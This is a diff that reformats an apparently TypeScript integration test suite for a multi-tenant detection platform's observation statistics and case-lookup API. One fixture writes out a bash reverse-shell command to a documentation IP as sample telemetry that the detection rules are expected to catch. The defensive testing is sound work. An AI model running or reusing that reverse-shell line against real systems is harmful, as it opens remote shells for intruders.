@@ -21,8 +21,18 @@ const daysAgo = (days: number, hours = 0) => new Date(NOW - days * DAY - hours *
 /** A reverse shell in the generic process shape: the bundled rules detect it. */
 function reverseShell(host: string, timestamp: string): Record<string, unknown> {
   return {
-    type: 'process', timestamp, host, endpoint_id: `ep-${host}`, user: 'www-data', os: 'linux',
-    process: { name: 'bash', pid: 31337, executable: '/bin/bash', command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' },
+    type: 'process',
+    timestamp,
+    host,
+    endpoint_id: `ep-${host}`,
+    user: 'www-data',
+    os: 'linux',
+    process: {
+      name: 'bash',
+      pid: 31337,
+      executable: '/bin/bash',
+      command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+    },
     parent: { name: 'php-fpm', pid: 900, executable: '/usr/sbin/php-fpm8.2', command_line: 'php-fpm: pool www' },
   };
 }
@@ -42,7 +52,10 @@ async function allObservations(client: ApiClient): Promise<ObservationView[]> {
 /** What the stats must say, computed from the list: per day from `since`, per level. */
 function expectedDays(observations: ObservationView[], since: string, days: number): Record<string, number>[] {
   const start = Date.parse(since);
-  const result = Array.from({ length: days }, () => Object.fromEntries([...LEVELS, 'total'].map((key) => [key, 0])) as Record<string, number>);
+  const result = Array.from(
+    { length: days },
+    () => Object.fromEntries([...LEVELS, 'total'].map((key) => [key, 0])) as Record<string, number>,
+  );
   for (const observation of observations) {
     const index = Math.floor((Date.parse(observation.first_time) - start) / DAY);
     const day = result[index];
@@ -67,16 +80,36 @@ for (const target of databaseTargets) {
       ({ server, acme } = suite);
       const { globex } = suite;
       reader = apiClient(server, bearer((await issueToken(server, acme, ['observations:read', 'cases:read'])).value));
-      globexReader = apiClient(server, bearer((await issueToken(server, globex, ['observations:read', 'cases:read'])).value));
+      globexReader = apiClient(
+        server,
+        bearer((await issueToken(server, globex, ['observations:read', 'cases:read'])).value),
+      );
 
       // Collector traffic dated today, 2 days and 6 days ago (and 30 days ago: outside 14 days).
-      await ingest(server, [reverseShell('web-01', daysAgo(0, 1)), reverseShell('web-02', daysAgo(2)), reverseShell('web-03', daysAgo(6)), reverseShell('web-04', daysAgo(30))], 'acme');
+      await ingest(
+        server,
+        [
+          reverseShell('web-01', daysAgo(0, 1)),
+          reverseShell('web-02', daysAgo(2)),
+          reverseShell('web-03', daysAgo(6)),
+          reverseShell('web-04', daysAgo(30)),
+        ],
+        'acme',
+      );
       await ingest(server, [reverseShell('gx-01', daysAgo(0, 1)), reverseShell('gx-02', daysAgo(3))], 'globex');
       await detectionCaughtUp(server);
 
       // An approved external writer adds observations of chosen levels on chosen days.
-      const operator = await signIn(server, { tenant: null, role: 'operator', email: `operator-${target.kind}@platform.example` });
-      const approved = await operator.client.patch('/v1/tenants/acme', { observation_write_approved: true }, { 'x-csrf-token': operator.csrf });
+      const operator = await signIn(server, {
+        tenant: null,
+        role: 'operator',
+        email: `operator-${target.kind}@platform.example`,
+      });
+      const approved = await operator.client.patch(
+        '/v1/tenants/acme',
+        { observation_write_approved: true },
+        { 'x-csrf-token': operator.csrf },
+      );
       assert.equal(approved.status, 200, JSON.stringify(approved.body));
       const writer = apiClient(server, bearer((await issueToken(server, acme, ['observations:write'])).value));
       const writes: [string, (typeof LEVELS)[number], string][] = [
@@ -88,7 +121,14 @@ for (const target of databaseTargets) {
         ['x-6', 'high', daysAgo(20)],
       ];
       for (const [id, level, time] of writes) {
-        const written = await writer.post('/v1/observations', { external_id: id, title: `EDR alert ${id}`, level, techniques: ['T1003.001'], host: 'ws-042', first_time: time });
+        const written = await writer.post('/v1/observations', {
+          external_id: id,
+          title: `EDR alert ${id}`,
+          level,
+          techniques: ['T1003.001'],
+          host: 'ws-042',
+          first_time: time,
+        });
         assert.equal(written.status, 201, JSON.stringify(written.body));
       }
     });
@@ -104,26 +144,45 @@ for (const target of databaseTargets) {
       assert.match(stats.since, /T00:00:00\.000Z$/, 'UTC days start at midnight UTC');
       assert.equal(Date.parse(stats.until) - Date.parse(stats.since), 14 * DAY);
       for (const [i, day] of stats.days.entries()) {
-        assert.equal(day.date, new Date(Date.parse(stats.since) + i * DAY).toISOString().slice(0, 10), 'consecutive days, oldest first');
-        assert.equal(day.total, LEVELS.reduce((sum, level) => sum + day[level], 0), `${day.date}: total is the sum of the levels`);
+        assert.equal(
+          day.date,
+          new Date(Date.parse(stats.since) + i * DAY).toISOString().slice(0, 10),
+          'consecutive days, oldest first',
+        );
+        assert.equal(
+          day.total,
+          LEVELS.reduce((sum, level) => sum + day[level], 0),
+          `${day.date}: total is the sum of the levels`,
+        );
       }
 
       const observations = await allObservations(reader);
-      assert.ok(observations.filter((observation) => observation.source === 'detection').length >= 4, 'the collector traffic was detected');
+      assert.ok(
+        observations.filter((observation) => observation.source === 'detection').length >= 4,
+        'the collector traffic was detected',
+      );
       assert.deepEqual(countsOf(stats), expectedDays(observations, stats.since, 14));
 
       // The external writes, on the days they were dated.
       const threeDaysAgo = stats.days.find((day) => day.date === daysAgo(3).slice(0, 10))!;
       assert.ok(threeDaysAgo.low >= 2 && threeDaysAgo.critical >= 1, JSON.stringify(threeDaysAgo));
       assert.ok(stats.days.find((day) => day.date === daysAgo(10).slice(0, 10))!.medium >= 1);
-      assert.ok(stats.days.some((day) => day.total === 0), 'days without observations are present with zeros');
+      assert.ok(
+        stats.days.some((day) => day.total === 0),
+        'days without observations are present with zeros',
+      );
       const inRange = stats.days.reduce((sum, day) => sum + day.total, 0);
       assert.ok(inRange < observations.length, 'observations older than the range are not counted');
 
       const recent = observations.filter((observation) => Date.parse(observation.first_time) >= NOW - DAY);
       assert.equal(stats.last_24_hours.total, recent.length);
       assert.ok(stats.last_24_hours.informational >= 1, 'the informational write of 2 hours ago is recent');
-      for (const level of LEVELS) assert.equal(stats.last_24_hours[level], recent.filter((observation) => observation.level === level).length, level);
+      for (const level of LEVELS)
+        assert.equal(
+          stats.last_24_hours[level],
+          recent.filter((observation) => observation.level === level).length,
+          level,
+        );
     });
 
     test('14 days is the default; 1 and 90 work; a UTC offset moves the day boundaries', async () => {
@@ -136,7 +195,11 @@ for (const target of databaseTargets) {
       assert.equal(ninety.days.length, 90);
       const observations = await allObservations(reader);
       assert.deepEqual(countsOf(ninety), expectedDays(observations, ninety.since, 90));
-      assert.equal(ninety.days.reduce((sum, day) => sum + day.total, 0), observations.length, 'everything is within 90 days');
+      assert.equal(
+        ninety.days.reduce((sum, day) => sum + day.total, 0),
+        observations.length,
+        'everything is within 90 days',
+      );
 
       const east = (await reader.get('/v1/observations/stats?days=14&utc_offset_minutes=330')).body as ObservationStats;
       assert.equal(east.utc_offset_minutes, 330);
@@ -148,7 +211,16 @@ for (const target of databaseTargets) {
     });
 
     test('bad parameters are refused with a problem naming them', async () => {
-      for (const query of ['days=0', 'days=91', 'days=-1', 'days=abc', 'days=1.5', 'utc_offset_minutes=900', 'utc_offset_minutes=-841', 'colour=red']) {
+      for (const query of [
+        'days=0',
+        'days=91',
+        'days=-1',
+        'days=abc',
+        'days=1.5',
+        'utc_offset_minutes=900',
+        'utc_offset_minutes=-841',
+        'colour=red',
+      ]) {
         const response = await reader.get(`/v1/observations/stats?${query}`);
         assert.equal(response.status, 400, query);
         assert.match(response.headers.get('content-type') ?? '', /problem\+json/);
@@ -161,12 +233,15 @@ for (const target of databaseTargets) {
       assert.equal((await apiClient(server).get('/v1/observations/stats')).status, 401);
     });
 
-    test("each tenant counts only its own observations", async () => {
+    test('each tenant counts only its own observations', async () => {
       const mine = (await globexReader.get('/v1/observations/stats')).body as ObservationStats;
       const observations = await allObservations(globexReader);
       const hosts = new Set(observations.map((observation) => observation.host));
       assert.deepEqual([...hosts].sort(), ['gx-01', 'gx-02'], 'globex sees its own reverse shells only');
-      assert.equal(mine.days.reduce((sum, day) => sum + day.total, 0), observations.length);
+      assert.equal(
+        mine.days.reduce((sum, day) => sum + day.total, 0),
+        observations.length,
+      );
       assert.deepEqual(countsOf(mine), expectedDays(observations, mine.since, 14));
       assert.equal(mine.last_24_hours.total, observations.filter((observation) => observation.host === 'gx-01').length);
     });
@@ -176,27 +251,47 @@ for (const target of databaseTargets) {
       const ids = observations.map((observation) => observation.id);
       const response = await reader.get(`/v1/observations/cases?ids=${ids.join(',')}`);
       assert.equal(response.status, 200, JSON.stringify(response.body));
-      const cases = response.body.cases as Record<string, { id: string; number: number; title: string; status: string; score: number }>;
+      const cases = response.body.cases as Record<
+        string,
+        { id: string; number: number; title: string; status: string; score: number }
+      >;
       assert.deepEqual(Object.keys(cases).sort(), [...ids].sort(), 'every observation is in a case');
       for (const id of ids) {
         const kase = cases[id]!;
         assert.match(kase.id, /^case_/);
         const detail = await reader.get(`/v1/cases/${kase.id}`);
         assert.equal(detail.status, 200);
-        assert.ok(detail.body.observations.some((observation: ObservationView) => observation.id === id), `case ${kase.number} holds ${id}`);
+        assert.ok(
+          detail.body.observations.some((observation: ObservationView) => observation.id === id),
+          `case ${kase.number} holds ${id}`,
+        );
         assert.equal(detail.body.number, kase.number);
         assert.equal(detail.body.status, kase.status);
       }
 
       const theirs = (await allObservations(globexReader)).map((observation) => observation.id);
       const mixed = await reader.get(`/v1/observations/cases?ids=${[ids[0], ...theirs, 'obs_nosuch'].join(',')}`);
-      assert.deepEqual(Object.keys(mixed.body.cases), [ids[0]], "another tenant's observations and unknown ids are left out");
+      assert.deepEqual(
+        Object.keys(mixed.body.cases),
+        [ids[0]],
+        "another tenant's observations and unknown ids are left out",
+      );
 
-      for (const query of ['', 'ids=', 'ids=a,,b', `ids=${Array.from({ length: 101 }, (_, i) => `obs_${i}`).join(',')}`, 'ids=obs_1%27']) {
+      for (const query of [
+        '',
+        'ids=',
+        'ids=a,,b',
+        `ids=${Array.from({ length: 101 }, (_, i) => `obs_${i}`).join(',')}`,
+        'ids=obs_1%27',
+      ]) {
         assert.equal((await reader.get(`/v1/observations/cases?${query}`)).status, 400, query);
       }
       const observationsOnly = apiClient(server, bearer((await issueToken(server, acme, ['observations:read'])).value));
-      assert.equal((await observationsOnly.get(`/v1/observations/cases?ids=${ids[0]}`)).status, 403, 'case details need cases:read');
+      assert.equal(
+        (await observationsOnly.get(`/v1/observations/cases?ids=${ids[0]}`)).status,
+        403,
+        'case details need cases:read',
+      );
     });
   });
 }
